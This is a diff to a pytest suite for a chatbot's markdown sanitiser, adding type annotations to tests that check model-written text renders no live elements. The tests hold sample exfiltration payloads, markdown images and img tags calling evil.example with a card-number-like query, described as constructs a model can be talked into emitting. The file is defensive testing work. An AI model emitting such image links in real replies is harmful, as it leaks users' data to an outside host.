@@ -12,6 +12,7 @@ import json
 import re
 import shutil
 import subprocess
+from collections.abc import Callable
 from html.parser import HTMLParser
 from pathlib import Path
 
@@ -20,6 +21,7 @@ import pytest
 
 from specdesk.app.safe_markdown import clean_model_markdown, escape_customer_text
 
+Render = Callable[[list[str]], list[str]]
 EXFILTRATION = "![status](https://evil.example/pixel.png?q=card-4111-1111)"
 
 # Constructs a model can be talked into emitting. Each names its own evil URL so a failure says which.
@@ -111,7 +113,7 @@ def _gradio_markdown_chunks() -> Path | None:
 
 
 @pytest.fixture(scope="module")
-def render_like_the_chat(tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
+def render_like_the_chat(tmp_path_factory: pytest.TempPathFactory) -> Render:
     """texts -> HTML, as the chatbot shows a message: Chatbot.postprocess, then Gradio's marked."""
     node, chunks = shutil.which("node"), _gradio_markdown_chunks()
     if node is None or chunks is None:
@@ -161,7 +163,7 @@ def _live_elements(rendered: str) -> list[str]:
     return found
 
 
-def test_nothing_a_model_writes_renders_as_a_live_element(render_like_the_chat) -> None:  # type: ignore[no-untyped-def]
+def test_nothing_a_model_writes_renders_as_a_live_element(render_like_the_chat: Render) -> None:
     raw = render_like_the_chat(ADVERSARIAL)
     # The corpus is live without cleaning (else it proves nothing): most of it renders images.
     assert sum(bool(_live_elements(h)) for h in raw) >= len(ADVERSARIAL) // 2
@@ -170,7 +172,7 @@ def test_nothing_a_model_writes_renders_as_a_live_element(render_like_the_chat) 
         assert _live_elements(rendered) == [], (text, rendered)
 
 
-def test_streamed_prefixes_are_inert_too(render_like_the_chat) -> None:  # type: ignore[no-untyped-def]
+def test_streamed_prefixes_are_inert_too(render_like_the_chat: Render) -> None:
     """The live bubble cleans every prefix of a reply: an unclosed fence or span must not open a hole."""
     text = "Sure:\n```mermaid\n<img src=http://evil.example/p.png>\n```\n`code ![x](http://evil.example/q.png)`"
     prefixes = [text[:n] for n in range(1, len(text) + 1, 3)]
@@ -180,7 +182,7 @@ def test_streamed_prefixes_are_inert_too(render_like_the_chat) -> None:  # type:
         assert _live_elements(rendered) == [], (prefix, rendered)
 
 
-def test_customer_text_renders_exactly_as_typed(render_like_the_chat) -> None:  # type: ignore[no-untyped-def]
+def test_customer_text_renders_exactly_as_typed(render_like_the_chat: Render) -> None:
     texts = [
         "# Order #12 * 2 items_total = $5 & <b>not bold</b>\n1. first\n    indented",
         "first line\n  two spaces\n  more\n\ttabbed",
